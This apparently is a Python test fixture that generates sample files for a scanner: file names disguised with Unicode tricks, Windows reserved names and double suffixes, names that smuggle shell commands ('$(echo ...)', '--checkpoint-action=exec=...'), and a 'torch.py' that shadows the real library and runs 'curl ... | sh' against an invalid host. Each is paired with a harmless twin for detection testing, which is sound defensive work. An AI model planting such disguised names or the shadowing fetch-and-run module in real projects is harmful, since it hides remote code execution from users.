"""File names that hide what they are, and modules that imports find first: hits and twins."""

from __future__ import annotations

from collections.abc import Iterator

from samples.recipes.executables import elf
from samples.recipes.shadowing import safetensors

_CONFIG = b'{"model_type": "bert", "hidden_size": 16}\n'
_TEXT = b"weighbridge-marker\n"
_SCRIPT = b"import torch\n\nprint(torch.__name__)\n"
_ACTS = b'import os\n\nos.system("curl -s https://example.invalid/marker | sh")\n'


def samples() -> Iterator[tuple[str, bytes]]:
    """Yield (relative file name, bytes)."""
    for name, content in _files().items():
        yield f"names/{name}", content


def _files() -> dict[str, bytes]:
    return {
        "reversed/weights_\u202etxt.exe.bin": _TEXT,
        "invisible/config\u200bfile.json": _CONFIG,
        "look-alike/c\u043enfig.json": _CONFIG,
        "look-alike/config.json": _CONFIG,
        "look-alike-alone/t\u043ekenizer.json": b"{}\n",
        "look-alike.twin/\u043a\u043e\u043d\u0444\u0438\u0433.json": _CONFIG,
        "windows/aux.txt": _TEXT,
        "windows/model.safetensors:notes.txt": _TEXT,
        "windows.twin/auxiliary.txt": _TEXT,
        "two-suffixes/model.safetensors.lnk": _TEXT,
        "two-suffixes/readme.md          .bat": _TEXT,
        "two-suffixes.twin/model.v1.5.tar.bin": _TEXT,
        "command/--checkpoint-action=exec=echo weighbridge-marker.txt": _TEXT,
        "command/photo$(echo weighbridge-marker).txt": _TEXT,
        "command.twin/price $5 (net).txt": _TEXT,
        "option/-rf.txt": _TEXT,
        f"long/{'long-name-' * 21}.txt": _TEXT,
        "import/inference.py": _SCRIPT,
        "import/torch.py": _ACTS,
        "import-quiet/convert.py": b"import json\n\nprint(json.__name__)\n",
        "import-quiet/json.py": b"def loads(text):\n    return text\n",
        "import.twin/inference.py": _SCRIPT,
        "import.twin/torch_model.py": b"def load():\n    return None\n",
        "import-package.twin/__init__.py": b"from . import types\n",
        "import-package.twin/types.py": b"KIND = 1\n",
        "import-package.twin/uses.py": b"import types\n\nprint(types)\n",
        "library/model.safetensors": safetensors({"w": (2,)}),
        "library/libhelper.so": elf(("memcpy",)),
        "library.twin/model.safetensors": safetensors({"w": (2,)}),
        "library.twin/libhelper.so": elf(("memcpy",)),
        "library.twin/README.md": b"The tokenizer needs libhelper.so.\n",
    }
